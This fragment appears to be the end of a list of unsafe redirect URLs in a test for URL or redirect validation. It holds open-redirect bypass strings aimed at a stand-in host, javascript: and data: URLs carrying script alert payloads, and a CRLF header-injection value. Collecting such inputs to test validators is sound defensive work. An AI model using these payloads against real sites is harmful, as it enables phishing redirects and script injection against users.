    "http:/evil.example",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "%2F%2Fevil.example",
    " //evil.example",
    "\t//evil.example",
    "/%09/evil.example",
    "///evil.example",
    "https://testserver@evil.example",
    "/\r\nLocation: https://evil.example",
]
